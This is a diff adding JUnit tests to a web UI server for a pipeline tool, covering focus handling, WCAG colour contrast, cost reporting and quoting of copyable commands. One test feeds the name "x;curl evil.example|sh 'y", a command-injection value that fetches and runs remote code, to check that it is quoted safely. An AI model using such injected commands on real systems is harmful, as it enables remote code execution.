@@ -4,7 +4,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.septet.activities.quota.RunUse;
 import dev.septet.activities.report.PipelineVersion;
+import dev.septet.activities.report.ReportSettings;
+import dev.septet.activities.report.RunCost;
 import dev.septet.activities.store.Fence;
 import dev.septet.dsl.pipeline.SpecJson;
 import dev.septet.workers.cli.Captured;
@@ -14,8 +17,10 @@ import dev.septet.workers.cli.option.Session;
 import dev.septet.workflows.artifact.Score;
 import dev.septet.workflows.artifact.Verdict;
 import java.io.IOException;
+import java.math.BigDecimal;
 import java.net.Socket;
 import java.net.URI;
+import java.net.URLEncoder;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
@@ -24,6 +29,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Locale;
+import java.util.Map;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import org.junit.jupiter.api.Test;
@@ -106,7 +112,8 @@ class UiServerTest {
                     .containsEntry("cache-control", List.of("no-store"))
                     .containsEntry("x-frame-options", List.of("DENY"));
             assertThat(UiAccess.POLICY).contains("frame-ancestors 'none'").doesNotContain("unsafe");
-            for (String path : List.of("/pipeline?name=a", "/approvals", "/workers", "/session", "/other")) {
+            for (String path : List.of(
+                    "/pipeline?name=a", "/approvals", "/workers", "/costs", "/review?name=a", "/session", "/other")) {
                 assertThat(get(running, path).statusCode()).as(path).isEqualTo(401);
             }
             assertThat(post(running, "/answer", "run=a").statusCode()).isEqualTo(403);
@@ -202,6 +209,151 @@ class UiServerTest {
                     .isEqualTo(413);
             post(running, "/sign-out", "form=" + form(page), "Cookie", cookie, "Origin", own);
             assertThat(get(running, "/", "Cookie", cookie).statusCode()).isEqualTo(401);
+        }
+    }
+
+    @Test
+    void whatAButtonDidHasTheFocusAndNoRefreshTakesIt() throws Exception {
+        try (UiStart.Running running = start()) {
+            String cookie = signIn(running, token(running));
+            String own = running.server().address();
+            String page = get(running, "/", "Cookie", cookie).body();
+            post(running, "/steer", "form=" + form(page) + "&action=pause&run=x", "Cookie", cookie, "Origin", own);
+
+            assertThat(get(running, "/", "Cookie", cookie, "X-Septet-Refresh", "1")
+                            .body())
+                    .as("the refresh of another tab does not take it")
+                    .doesNotContain("id=\"notice\"");
+            String next = get(running, "/", "Cookie", cookie).body();
+            assertThat(next)
+                    .containsPattern("<p id=\"notice\" class=\"banner bad\" role=\"alert\" tabindex=\"-1\" autofocus>")
+                    .contains("id=\"news\" class=\"away\" role=\"status\"");
+            assertThat(next.indexOf("id=\"notice\""))
+                    .as("outside of what a refresh replaces")
+                    .isLessThan(next.indexOf("id=\"live\""));
+            assertThat(get(running, "/ui.js").body()).contains("X-Septet-Refresh");
+        }
+    }
+
+    /** WCAG 2.2: 4.5 for texts (1.4.3), 3 for the borders of buttons and fields (1.4.11). */
+    @Test
+    void coloursHaveContrastInLightAndDark() throws Exception {
+        try (UiStart.Running running = start()) {
+            String css = get(running, "/ui.css").body();
+            List<String> themes = Pattern.compile(":root \\{(.*?)\\}", Pattern.DOTALL)
+                    .matcher(css)
+                    .results()
+                    .map(found -> found.group(1))
+                    .toList();
+            assertThat(themes).as("light and dark").hasSize(2);
+            for (String theme : themes) {
+                for (String text : List.of(
+                        "ink paper",
+                        "ink card",
+                        "ink hover",
+                        "ink quiet-soft",
+                        "muted paper",
+                        "muted card",
+                        "muted hover",
+                        "muted bad-soft",
+                        "accent paper",
+                        "accent card",
+                        "accent hover",
+                        "on-accent accent",
+                        "good good-soft",
+                        "bad bad-soft",
+                        "bad card",
+                        "warn warn-soft",
+                        "busy busy-soft")) {
+                    assertThat(contrast(theme, text)).as(text).isGreaterThanOrEqualTo(4.5);
+                }
+                for (String border : List.of("edge card", "edge paper", "one card")) {
+                    assertThat(contrast(theme, border)).as(border).isGreaterThanOrEqualTo(3);
+                }
+            }
+        }
+    }
+
+    private static double contrast(String theme, String pair) {
+        double first = luminance(theme, pair.substring(0, pair.indexOf(' ')));
+        double second = luminance(theme, pair.substring(pair.indexOf(' ') + 1));
+        return (Math.max(first, second) + 0.05) / (Math.min(first, second) + 0.05);
+    }
+
+    private static double luminance(String theme, String name) {
+        Matcher colour =
+                Pattern.compile("--" + name + ": #([0-9a-f]{6}|[0-9a-f]{3});").matcher(theme);
+        assertThat(colour.find()).as(name).isTrue();
+        String hex = colour.group(1);
+        hex = hex.length() == 3 ? hex.replaceAll("(.)", "$1$1") : hex;
+        double sum = 0;
+        double[] weights = {0.2126, 0.7152, 0.0722};
+        for (int at = 0; at < weights.length; at++) {
+            double part = Integer.parseInt(hex.substring(2 * at, 2 * at + 2), 16) / 255.0;
+            sum += weights[at] * (part <= 0.04045 ? part / 12.92 : Math.pow((part + 0.055) / 1.055, 2.4));
+        }
+        return sum;
+    }
+
+    @Test
+    void aCommandToCopyRunsNothingElse() throws Exception {
+        try (UiStart.Running running = start()) {
+            String name = "x;curl evil.example|sh 'y";
+            String page = get(
+                            running,
+                            "/pipeline?name=" + URLEncoder.encode(name, StandardCharsets.UTF_8),
+                            "Authorization",
+                            "Bearer " + token(running))
+                    .body();
+            assertThat(page)
+                    .contains("septet review 'x;curl evil.example|sh '\\''y' --blind")
+                    .doesNotContain("septet review x;curl");
+        }
+    }
+
+    @Test
+    void costsComeFromTheRecordsOfRuns() throws Exception {
+        Session session = session();
+        for (int run = 0; run < 2; run++) {
+            Path folder = Files.createDirectories(home.resolve("page-" + run));
+            RunCost cost = new RunCost(
+                            3_600_000, new ReportSettings.Price(new BigDecimal("2.40"), "EUR"), null, null, null)
+                    .with(new RunUse(0.25, 1000, Map.of(run == 0 ? "USD" : "EUR", new BigDecimal("0.75"))));
+            Files.writeString(
+                    folder.resolve("run.json"), "{\"cost\":" + SpecJson.mapper().writeValueAsString(cost) + "}");
+            PipelineVersion version = new PipelineVersion(
+                    "0199c5a0-77aa-7000-8000-00000000000" + run,
+                    1_700_000_000_000L + run,
+                    Verdict.GO,
+                    List.of(),
+                    null,
+                    session.store().put(folder, new Fence("test/" + run, 1)));
+            String name = String.format(
+                    Locale.ROOT, "versions/support-bot/%013d-%s", version.startedMillis(), version.runId());
+            session.store().putRecord(name, SpecJson.mapper().writeValueAsString(version), new Fence("test/" + run, 1));
+        }
+        try (UiStart.Running running = new UiStart(UiStart.HOST, 0, null, null).start(session)) {
+            JsonNode row = json(running, "/costs").at("/view/rows/0");
+            assertThat(row.path("pipeline").asText()).isEqualTo("support-bot");
+            assertThat(row.at("/cost/use/gpuHours").asDouble()).isEqualTo(0.5);
+            assertThat(row.at("/cost/use/tokens").asLong()).isEqualTo(2000);
+            assertThat(row.at("/cost/use/costs/USD").asDouble()).isEqualTo(0.75);
+            assertThat(row.at("/cost/use/costs/EUR").asDouble()).isEqualTo(0.75);
+            assertThat(row.at("/cost/machines/EUR").asDouble()).isEqualTo(4.8);
+            String page = get(running, "/costs", "Authorization", "Bearer " + token(running))
+                    .body();
+            assertThat(page)
+                    .contains(
+                            "0.75\u00a0EUR and 0.75\u00a0USD",
+                            "4.80\u00a0EUR",
+                            "2,000",
+                            "href=\"/costs\" data-key=\"c\" aria-current=\"page\"");
+            assertThat(get(running, "/pipeline?name=support-bot", "Authorization", "Bearer " + token(running))
+                            .body())
+                    .contains(
+                            "0.75\u00a0EUR and 0.75\u00a0USD, 2,000 tokens",
+                            "services 0.75\u00a0USD",
+                            "0.50 GPU hours");
         }
     }
 
